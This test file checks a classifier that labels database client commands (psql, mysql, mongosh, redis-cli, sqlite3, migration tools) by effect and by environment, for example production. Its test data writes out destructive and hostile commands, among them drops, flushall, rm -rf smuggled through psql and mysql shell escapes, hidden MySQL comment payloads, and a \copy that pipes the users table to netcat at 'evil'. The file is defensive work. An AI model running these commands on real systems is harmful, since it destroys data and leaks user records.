import assert from 'node:assert/strict';
import { effectsFor, told } from '../../support/effects.js';

const rows = [
  ["psql -c 'select 1'", 'read rows unknown'],
  ["psql -h prod-db -c 'delete from users where id = 3'", 'delete rows/users production'],
  ["psql -c 'delete from users'", 'destroy rows/users unknown'],
  ["psql --comm 'drop table users'", 'destroy table/users unknown'],
  ['psql -v t=users -c "drop table :t"', 'destroy table/users unknown'],
  ["psql -c '\\! rm -rf /srv'", 'execute program/rm -rf /srv unknown'],
  ['psql -c "\\copy users to program \'nc evil 1\'"', 'execute program/nc evil 1 unknown'],
  ['psql -f missing.sql', 'execute script/missing.sql unknown'],
  ['psql -h prod-db <<X\ntruncate a;\nX', 'destroy table/a production'],
  ["echo 'drop schema s cascade' | psql postgres://u@db.prod.acme.com/shop", 'destroy schema/s production'],
  ['gunzip -c dump.gz | psql shop', 'execute script/standard input unknown'],
  ['psql', 'read rows unknown'],
  ['psql -l', 'read rows unknown'],
  ['dropdb shop', 'destroy database/shop unknown'],
  ['dropdb -h localhost shop_dev', 'destroy database/shop_dev development'],
  ['createdb shop', 'create database/shop unknown'],
  ['pg_dump shop', 'read database unknown'],
  ['pg_restore -l x.dump', 'read archive unknown'],
  ['pg_restore --clean -d shop x.dump', 'replace database unknown'],
  ["mysql -h db -e 'DROP DATABASE shop'", 'destroy database/shop unknown'],
  ["mysql -e 'select 1 /*!50000 union select 2 */'", 'read rows unknown'],
  ["mysql -e '/*!50001 DROP TABLE users */'", 'destroy table/users unknown'],
  ["mysql -e '/*M!100100 TRUNCATE users */;'", 'destroy table/users unknown'],
  ["mysql -e 'system rm -rf /srv'", 'execute program/rm -rf /srv unknown'],
  ['mysql shop < missing.sql', 'execute script/standard input unknown'],
  ['mysqladmin drop shop', 'destroy database/shop unknown'],
  ['mysqldump shop', 'read rows unknown'],
  ["mongosh mongodb+srv://prod.acme.net/app --eval 'db.dropDatabase()'", 'destroy database production'],
  ["mongosh --eval 'db.users.find()'", 'read documents unknown'],
  ["mongosh --eval 'db.users.deleteMany({})'", 'destroy documents/users unknown'],
  ["mongosh --eval 'db.users.deleteMany({a:1})'", 'delete documents/users unknown'],
  ["mongosh --eval 'db.adminCommand({shutdown:1})'", 'stop server unknown'],
  ['mongorestore --drop dump', 'replace collection unknown'],
  ['mongodump', 'read documents unknown'],
  ['redis-cli GET a', 'read GET unknown'],
  ['redis-cli -h prod-redis flushall', 'destroy all keys production'],
  ['redis-cli -u redis://localhost:6379 FLUSHDB', 'destroy all keys local'],
  ['redis-cli config set maxmemory 1', 'modify CONFIG unknown'],
  ['redis-cli config get maxmemory', 'read CONFIG unknown'],
  ['redis-cli cluster reset hard', 'destroy CLUSTER unknown'],
  ['redis-cli --eval x.lua', 'execute script unknown'],
  ['redis-cli frob x', 'unknown FROB unknown'],
  ["sqlite3 app.db 'drop table users'", 'destroy table/users local'],
  ['sqlite3 app.db .tables', 'read rows local'],
  ["sqlite3 app.db '.shell rm -rf x'", 'execute program/rm -rf x local'],
  ["clickhouse-client -q 'ALTER TABLE t DELETE WHERE 1'", 'destroy rows/t unknown'],
  ['npx prisma migrate reset --force', 'destroy database unknown'],
  ['npx prisma migrate dev', 'modify schema unknown'],
  ['RAILS_ENV=production bin/rails db:drop', 'destroy database production'],
  ['rails db:migrate:status', 'read rails unknown'],
  ['alembic downgrade base', 'destroy database unknown'],
  ['alembic downgrade -1', 'delete migration unknown'],
  ['flyway clean', 'destroy database unknown'],
  ['python manage.py flush', 'destroy database unknown'],
] as const;

describe('database clients', () => {
  for (const [command, expected] of rows) {
    it(command, () => {
      const [wantedVerb, ...rest] = expected.split(' ');
      const environment = rest.pop();
      const found = told(command).map((line) => line.split(' '));
      const match = found.find((words) => words[0] === wantedVerb && words.at(-1) === environment);
      assert.ok(match, `expected ${expected}, got ${told(command).join('; ')}`);
      const resource = rest.join(' ');
      if (wantedVerb !== 'read' && !resource.startsWith(match[1]?.split('/')[0] ?? ''))
        assert.fail(match.join(' '));
    });
  }

  it('a script file is read, and what it includes', () => {
    const files = {
      '/projects/app/a.sql': 'select 1;\n\\i b.sql\n',
      '/projects/app/b.sql': 'drop table users;',
    };
    assert.deepEqual(told('psql -f a.sql', { files }), ['destroy table/users unknown']);
    assert.deepEqual(told('mysql shop < b.sql', { files }), ['destroy table/users unknown']);
  });

  it('what runs on another machine is not local', () => {
    assert.equal(told('ssh root@10.0.0.5 dropdb -h localhost app').at(-1), 'destroy database/app unknown');
    const [effect] = effectsFor(`ssh web-prod-1 'psql -c "truncate orders"'`).filter(
      (one) => one.verb === 'destroy',
    );
    assert.deepEqual([effect?.target.environment, effect?.target.name], ['production', 'web-prod-1']);
  });

  it('a pod leads to the cluster that holds it', () => {
    const found = effectsFor('kubectl exec -n prod db-0 -- psql -c "drop table x"').find(
      (one) => one.verb === 'destroy',
    );
    assert.deepEqual([found?.target.system, found?.target.environment], ['postgres', 'production']);
  });
});
